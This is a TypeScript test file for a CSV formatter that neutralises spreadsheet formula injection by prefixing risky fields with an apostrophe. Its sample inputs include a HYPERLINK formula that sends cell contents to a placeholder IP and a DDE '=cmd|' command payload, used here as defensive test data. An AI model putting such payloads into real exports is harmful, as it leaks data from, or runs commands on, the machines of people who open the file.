// Proves that a field of CSV output is one field, and is no formula in a spreadsheet.

import assert from 'node:assert/strict'
import { test } from 'node:test'
import { parse } from 'csv-parse/sync'
import { formatCsvRows } from './csv-rows.ts'

for (const text of [
  '=HYPERLINK("http://192.0.2.1/?"&A1,"x")',
  '+1+1',
  '-2+3',
  '@SUM(1,1)',
  '=cmd|x!A0',
  '\uFF1D1+1',
  ' =1+1',
]) {
  test(`an apostrophe stands before ${text}`, () => {
    assert.deepEqual(parse(formatCsvRows([[text]])), [[`'${text}`]])
  })
}

test('a tab or line end before a formula is escaped and hides nothing', () => {
  const row = formatCsvRows([['\t=1+1\r\n=2']])
  assert.doesNotMatch(row.replace(/\r\n$/, ''), /[\t\r\n]|^[=+@-]/)
  assert.equal(parse(row)[0]?.length, 1)
})

for (const text of ['192.0.2.1', '2001:db8::1', 'a-b.example', 'a=b', 'say "x", twice', 'true']) {
  test(`${text} stays as it is`, () => {
    assert.deepEqual(parse(formatCsvRows([[text, 'z']])), [[text, 'z']])
  })
}

test('a negative number is a number', () => {
  assert.equal(formatCsvRows([[-5, 0]]), '-5,0\r\n')
})

test('rows end with CRLF, booleans are words, and null is an empty field', () => {
  const rows = [
    ['item', true, null],
    ['', false, 'b'],
  ]
  assert.equal(formatCsvRows(rows), 'item,true,\r\n,false,b\r\n')
  assert.equal(formatCsvRows([]), '')
})
